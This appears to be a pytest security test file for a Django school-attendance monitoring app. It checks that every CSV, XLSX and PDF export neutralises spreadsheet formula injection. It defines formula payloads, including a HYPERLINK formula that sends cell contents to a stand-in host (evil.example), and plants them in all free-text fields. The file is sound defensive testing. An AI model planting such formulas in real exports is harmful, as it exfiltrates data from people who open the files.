"""ASVS V5.3.x / OWASP CSV injection: no export cell can become a spreadsheet formula
(issue 14, finding 1).

A formula payload is planted in EVERY free-text field of every model (walked from the
model registry, so a new field is covered automatically); then every export of the
product is opened as CSV, XLSX and PDF by the roles that may download it, and each cell
is checked. A new export URL fails `test_every_export_is_covered` until it is listed here.
"""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.apps import apps
from django.db import models
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook
from pypdf import PdfReader
from tests.security.probes import all_endpoints
from tests.security.world import TODAY, case_for, region, user_for

from leerrecht.accounts.models import Role
from leerrecht.monitoring.exports import FORMULA_STARTERS, export_cell, neutralise_formula

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("http://evil.example/?d="&A1,"klik")'
PAYLOADS = (PAYLOAD, "+1+1", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1")
# Models whose rows are not user text (framework tables, the append-only logs).
SKIP_APPS = {"admin", "auth", "contenttypes", "sessions", "otp_totp", "otp_static", "privacy"}
# History tables refuse UPDATE (append-only); their texts are written by the services.
APPEND_ONLY = {"cases.CaseEvent"}
# Fields that hold a validated document, not typed prose: a protocol version's TOML is
# checked by the preset loader before it is stored (docs/adr/0190), so it is never a
# formula payload; the version's "reason" stays covered.
NOT_PROSE = {("protocols.ProtocolVersion", "content")}

# Every download of the product: (url name, kwargs builder, roles, formats).
EXPORT_ROUTES = {
    "monitoring:thuiszitters": ((Role.POLICY, Role.LEERPLICHT_OFFICER), ("csv", "xlsx", "pdf")),
    "monitoring:kpi": ((Role.POLICY, Role.LEERPLICHT_OFFICER), ("csv", "xlsx", "pdf")),
    "monitoring:telling": ((Role.POLICY,), ("csv", "xlsx", "pdf")),
    "monitoring:telling_national": ((Role.POLICY,), ("csv", "xlsx", "pdf")),
    "monitoring:inspectie": ((Role.SWV_CONSULTANT,), ("csv", "xlsx", "pdf")),
    "monitoring:school_consultation": (
        (Role.SCHOOL_COORDINATOR, Role.LEERPLICHT_OFFICER),
        ("csv", "xlsx", "pdf"),
    ),
    "privacy:subject_access_pdf": ((Role.PRIVACY_OFFICER,), ("pdf",)),
    "privacy:subject_access_json": ((Role.PRIVACY_OFFICER,), ("json",)),
}
# Pages that are not downloads although they live next to them.
NOT_EXPORTS = {
    "monitoring:dashboard",
    "monitoring:school_list",
    "privacy:audit_search",
    "privacy:subject_access_lookup",
    "privacy:subject_access",
}


def _free_text_fields(model) -> list[models.Field]:
    """Text a person typed: TextFields, and CharFields without choices that are optional
    or long enough for prose (short required CharFields are codes: protocol, route...)."""
    unique = {n for group in model._meta.unique_together for n in group}
    unique |= {n for c in model._meta.constraints for n in getattr(c, "fields", ()) or ()}
    return [
        f
        for f in model._meta.concrete_fields
        if isinstance(f, models.CharField | models.TextField)
        and not f.choices
        and not f.unique
        and f.name not in unique
        and f.name != "password"
        and (model._meta.label, f.name) not in NOT_PROSE
        and (isinstance(f, models.TextField) or f.blank or (f.max_length or 0) >= 100)
    ]


def plant_payloads() -> int:
    """Overwrite every free-text field of every stored row with a payload; returns how
    many fields were planted."""
    planted = 0
    for model in apps.get_models():
        if model._meta.app_label in SKIP_APPS or not model._meta.managed:
            continue
        fields = _free_text_fields(model)
        if not fields:
            continue
        values = {
            f.name: PAYLOADS[i % len(PAYLOADS)][: f.max_length or None]
            for i, f in enumerate(fields)
        }
        if model._meta.label in APPEND_ONLY:
            continue
        model._default_manager.all().update(**values)
        planted += len(fields)
    return planted


def _world():
    a = region("A", surname="Janssen")
    case = case_for(a.student, owner=user_for(a, Role.LEERPLICHT_OFFICER))
    PlanAction = apps.get_model("cases", "PlanAction")
    PlanAction.objects.create(
        case=case,
        who="school",
        what=PAYLOAD,
        due_on=TODAY + dt.timedelta(days=7),
        created_on=TODAY,
    )
    return a


def _client(user) -> Client:
    from tests.security.test_cross_scope_probe_matrix import _verify_second_factor

    client = Client()
    client.force_login(user)
    _verify_second_factor(client, user)
    return client


def _cells(fmt: str, body: bytes) -> list[str]:
    if fmt == "csv":
        text = body.decode("utf-8-sig")
        return [c for row in csv.reader(io.StringIO(text), delimiter=";") for c in row]
    if fmt == "xlsx":
        workbook = load_workbook(io.BytesIO(body))
        cells = []
        for sheet in workbook.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", f"formula cell {cell.coordinate}: {cell.value}"
                    if isinstance(cell.value, str):
                        cells.append(cell.value)
        return cells
    return []


def _pdf_text(body: bytes) -> str:
    return "\n".join(p.extract_text() for p in PdfReader(io.BytesIO(body)).pages)


def _dangerous(cell: str) -> bool:
    return bool(cell) and cell[0] in FORMULA_STARTERS and neutralise_formula(cell) != cell


def test_export_cell_neutralises_formula_starters_and_keeps_numbers():
    for payload in PAYLOADS:
        assert export_cell(payload) == "'" + payload
    assert export_cell("-5%") == "-5%" and export_cell("+208%") == "+208%"
    assert export_cell(-3, native=True) == -3 and export_cell(1.5, native=True) == 1.5
    assert export_cell(dt.date(2026, 1, 2), native=True) == dt.date(2026, 1, 2)
    assert export_cell(1.5) == "1,5" and export_cell("Janssen") == "Janssen"


def test_every_export_is_covered():
    """Each monitoring and subject-access URL is either an export checked below or a page."""
    names = {e.ident for e in all_endpoints() if e.ident.split(":")[0] in ("monitoring", "privacy")}
    assert names <= set(EXPORT_ROUTES) | NOT_EXPORTS, names - set(EXPORT_ROUTES) - NOT_EXPORTS


def test_payload_in_every_free_text_field_never_becomes_a_formula(settings):
    a = _world()
    planted = plant_payloads()
    assert planted > 20  # names, notes, plan actions, organisations ...
    kwargs = {
        "monitoring:school_consultation": {"pk": a.school.pk},
        "privacy:subject_access_pdf": {"student_id": a.student.pk},
        "privacy:subject_access_json": {"student_id": a.student.pk},
    }
    seen_payload: set[str] = set()
    checked = 0
    for name, (roles, formats) in EXPORT_ROUTES.items():
        url = reverse(name, kwargs=kwargs.get(name))
        for role in roles:
            client = _client(user_for(a, role))
            for fmt in formats:
                params = {"date": TODAY.isoformat()}
                if name.startswith("monitoring:"):
                    params["format"] = fmt
                response = client.get(url, params)
                assert response.status_code == 200, (name, role, fmt, response.status_code)
                body = response.getvalue()
                if fmt == "json":
                    assert PAYLOAD.encode() in body or b"HYPERLINK" in body  # data, not a sheet
                    continue
                if fmt == "pdf":  # text, not cells: a table cell shows the apostrophe
                    if name == "monitoring:school_consultation":
                        assert "'=HYPERLINK" in _pdf_text(body).replace("\n", "")
                    else:
                        assert _pdf_text(body), (name, role)
                    continue
                for cell in _cells(fmt, body):
                    checked += 1
                    assert not _dangerous(cell), (name, role, fmt, cell)
                    if "HYPERLINK" in cell:
                        seen_payload.add(name)
    # Positive control: the planted text did reach the per-child exports, neutralised.
    assert "monitoring:school_consultation" in seen_payload, seen_payload
    assert checked > 100


def test_reconcile_result_files_never_hold_a_formula(tmp_path):
    """The command-line list reconciliation writes names from uploaded lists to CSV."""
    from typer.testing import CliRunner

    from leerrecht.cli.main import app

    a = tmp_path / "a.csv"
    a.write_text(f"Achternaam;Voornamen;Geboortedatum\n{PAYLOAD};Sanne;07-03-2014\n", "utf-8")
    b = tmp_path / "b.csv"
    b.write_text("Achternaam;Voornamen;Geboortedatum\nBakker;Lotte;01-01-2015\n", "utf-8")
    result = CliRunner().invoke(app, ["reconcile", str(a), str(b), "--out", str(tmp_path / "o")])
    assert result.exit_code == 0, result.output
    cells = [
        c
        for f in (tmp_path / "o").glob("*.csv")
        for row in csv.reader(io.StringIO(f.read_text("utf-8")), delimiter=";")
        for c in row
    ]
    assert any("HYPERLINK" in c for c in cells)
    assert not [c for c in cells if _dangerous(c)]
